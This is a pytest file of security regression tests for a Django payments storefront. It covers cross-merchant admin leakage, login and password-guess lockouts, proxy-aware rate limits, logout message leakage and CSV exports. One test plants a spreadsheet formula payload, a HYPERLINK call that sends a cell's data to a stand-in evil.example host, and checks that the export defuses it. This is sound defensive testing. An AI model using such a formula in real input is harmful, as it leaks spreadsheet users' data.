"""Defects found by attacking the storefront, the dashboard and the admin from
outside: each test failed before its fix."""

import csv
import io
from datetime import date

import pytest
from django.contrib import admin
from django.test import Client, override_settings
from django.urls import reverse

from accounts.services import user_grant_merchant_admin
from accounts.tests.factories import AdminFactory, MerchantFactory, UserFactory
from catalog.models import Product
from catalog.tests.factories import ProductFactory
from conftest import PASSWORD
from payments.models import Checkout
from payments.services import checkout_create, payment_create_for_checkout, payment_process
from wallets.tests.factories import funded_wallet

pytestmark = pytest.mark.django_db


def _logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _form_key(html: str, prefix: str = "") -> str:
    name = f"{prefix}-form_key" if prefix else "form_key"
    start = html.index(f'name="{name}"')
    value = html.index('value="', start) + len('value="')
    return html[value : html.index('"', value)]


def _staff_merchant(**fields):
    return user_grant_merchant_admin(user=MerchantFactory(**fields))


def test_the_admin_product_filter_offers_a_merchant_no_other_merchant():
    mine, theirs = _staff_merchant(), _staff_merchant(email="rival@example.com")
    ProductFactory(merchant=mine)
    ProductFactory(merchant=theirs)

    html = _logged_in(mine).get("/admin/catalog/product/").content.decode()
    staff_html = _logged_in(AdminFactory()).get("/admin/catalog/product/").content.decode()

    assert "rival@example.com" not in html
    assert str(theirs.pk) not in html
    assert "rival@example.com" in staff_html  # staff keep the whole filter


def test_the_login_lockout_holds_for_every_case_of_the_email(settings):
    settings.AXES_FAILURE_LIMIT = 3
    victim = UserFactory(email="victim@example.com")
    attacker = Client(REMOTE_ADDR="203.0.113.9")
    for variant in ("victim@example.com", "Victim@Example.com", "VICTIM@example.com"):
        attacker.post("/login/", {"username": variant, "password": "guess"})

    right_password = attacker.post(
        "/login/", {"username": "VICTIM@EXAMPLE.COM", "password": PASSWORD}
    )

    assert right_password.status_code == 429
    assert "_auth_user_id" not in attacker.session
    assert victim.email == "victim@example.com"


@override_settings(ADMIN_LOGIN_RATE="2/min")
def test_behind_a_proxy_one_clients_failed_admin_logins_lock_out_only_that_client(settings):
    settings.REST_FRAMEWORK = {**settings.REST_FRAMEWORK, "NUM_PROXIES": 1}
    staff = AdminFactory()
    proxy = "10.0.0.2"  # every request arrives from the load balancer
    attacker = Client(REMOTE_ADDR=proxy, HTTP_X_FORWARDED_FOR="203.0.113.9")
    for _ in range(3):
        attacker.post("/admin/login/", {"username": staff.email, "password": "guess"})

    blocked = attacker.post("/admin/login/", {"username": staff.email, "password": "guess"})
    colleague = Client(REMOTE_ADDR=proxy, HTTP_X_FORWARDED_FOR="198.51.100.7").post(
        "/admin/login/", {"username": staff.email, "password": PASSWORD}
    )

    assert blocked.status_code == 429
    assert colleague.status_code == 302


def test_a_message_left_when_logging_out_never_reaches_the_shared_catalog_page():
    ProductFactory(name="Shared card")
    customer = UserFactory()
    client = Client()
    client.login(username=customer.email, password=PASSWORD)
    page = client.get("/wallet/").content.decode()
    # The deposit's "Deposited …" message waits for the next page; the customer
    # logs out before it is shown, and it rides on in the messages cookie.
    client.post(
        "/wallet/deposit/",
        {
            "deposit-amount": "43.21",
            "deposit-card_token": "tok_visa",
            "deposit-form_key": _form_key(page, "deposit"),
        },
    )
    client.post("/logout/")
    own_view = client.get("/").content.decode()

    stranger = Client().get("/").content.decode()

    assert "Deposited $43.21." in own_view
    assert "Deposited" not in stranger
    assert "Shared card" in stranger


def _ledger_csv(client) -> list[list[str]]:
    today = date.today().isoformat()
    response = client.get("/dashboard/exports/ledger.csv", {"start": today, "end": today})
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_csv_exports_never_carry_a_live_formula_from_another_user(
    django_capture_on_commit_callbacks,
):
    seller, payer = MerchantFactory(), MerchantFactory()
    funded_wallet(payer, 10_000)
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Invoice")'
    checkout, _ = checkout_create(
        merchant=seller, idempotency_key="csv", amount=1_000, currency="USD", description=formula
    )
    payment = payment_create_for_checkout(checkout=checkout, payer=payer, method="WALLET")
    payment_process(payment_id=payment.pk)
    assert Checkout.objects.get(pk=checkout.pk).status == Checkout.Status.COMPLETED

    rows = _ledger_csv(_logged_in(payer))

    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert f"'{formula}" in cells  # kept, as text
    amounts = [row[rows[0].index("amount")] for row in rows[1:]]
    assert "-10.00" in amounts  # Kassa's own negative amounts stay numbers


def test_the_password_page_stops_guessing_the_current_password(settings):
    settings.AXES_FAILURE_LIMIT = 5
    user = UserFactory()
    client = _logged_in(user)
    for _ in range(12):
        client.post(
            "/account/password/", {"old_password": "guess", "new_password": "a-new-long-secret-42"}
        )

    right = client.post(
        "/account/password/", {"old_password": PASSWORD, "new_password": "a-new-long-secret-42"}
    )

    user.refresh_from_db()
    assert right.status_code == 429
    assert "Too many wrong passwords" in right.content.decode()
    assert user.check_password(PASSWORD)


def test_the_api_password_change_counts_wrong_guesses_per_account(settings):
    from conftest import client_for

    settings.AXES_FAILURE_LIMIT = 3
    settings.REST_FRAMEWORK = {
        **settings.REST_FRAMEWORK,
        "DEFAULT_THROTTLE_RATES": {"auth": "1000/min"},
    }
    user = UserFactory()
    answers = [
        client_for(user).post(
            "/api/v1/auth/password",
            {"old_password": "guess", "new_password": "a-new-long-secret-42"},
            format="json",
        )
        for _ in range(4)
    ]

    assert [a.status_code for a in answers] == [400, 400, 400, 429]
    assert answers[-1].json()["code"] == "too_many_attempts"


def _admin_form_data(response) -> dict:
    """What the admin's add or change page would post back untouched: the main
    form's values and every inline formset's management and form fields."""
    data = {}
    forms = [response.context["adminform"].form]
    for inline in response.context["inline_admin_formsets"]:
        formset = inline.formset
        management = formset.management_form
        data.update(
            {management.add_prefix(name): management[name].value() for name in management.fields}
        )
        forms.extend(formset.forms)
    for form in forms:
        for name, field in form.fields.items():
            value = form[name].value()
            if value is None or field.disabled:
                continue
            data[form.add_prefix(name)] = value if not isinstance(value, bool) else "on"
    return data


@pytest.mark.parametrize("who", ["staff", "merchant"])
def test_every_admin_add_and_change_form_can_be_posted(who):
    merchant = _staff_merchant()
    user = AdminFactory() if who == "staff" else merchant
    product = ProductFactory(merchant=merchant, price=1999)
    client = _logged_in(user)
    posted = {}
    for model in admin.site._registry:
        opts = model._meta
        name = f"admin:{opts.app_label}_{opts.model_name}"
        pages = [reverse(f"{name}_add")]
        if model is Product:
            pages.append(reverse(f"{name}_change", args=[product.pk]))
        for url in pages:
            page = client.get(url)
            if page.status_code != 200 or "adminform" not in page.context:
                continue
            posted[url] = client.post(url, _admin_form_data(page)).status_code

    assert {url: status for url, status in posted.items() if status >= 500} == {}
    assert reverse("admin:catalog_product_change", args=[product.pk]) in posted


@pytest.mark.parametrize("who", ["staff", "merchant"])
def test_a_product_is_added_and_changed_in_the_admin(who):
    merchant = _staff_merchant()
    client = _logged_in(AdminFactory() if who == "staff" else merchant)
    fields = {"name": "Admin card", "description": "", "price": "12.50", "currency": "USD"}
    fields |= {"is_active": "on", "delivery_kind": "manual"}
    if who == "staff":
        fields["merchant"] = str(merchant.pk)
    add_page = client.get("/admin/catalog/product/add/")

    added = client.post("/admin/catalog/product/add/", {**_admin_form_data(add_page), **fields})
    product = Product.objects.get(name="Admin card")
    change_url = f"/admin/catalog/product/{product.pk}/change/"
    changed = client.post(
        change_url, {**_admin_form_data(client.get(change_url)), "price": "13.00"}
    )

    product.refresh_from_db()
    assert (added.status_code, changed.status_code) == (302, 302)
    assert (product.merchant_id, product.price) == (merchant.pk, 1300)


def test_a_payment_link_form_sent_again_with_another_amount_is_explained():
    merchant = MerchantFactory()
    client = _logged_in(merchant)
    key = _form_key(client.get("/dashboard/links/").content.decode())
    first = client.post(
        "/dashboard/links/", {"amount": "12.50", "currency": "USD", "form_key": key}
    )

    again = client.post(
        "/dashboard/links/", {"amount": "99.00", "currency": "USD", "form_key": key}
    )

    assert first.status_code == 302
    assert again.status_code == 400
    assert "already sent for another payment link" in again.content.decode()
    assert Checkout.objects.filter(merchant=merchant).count() == 1
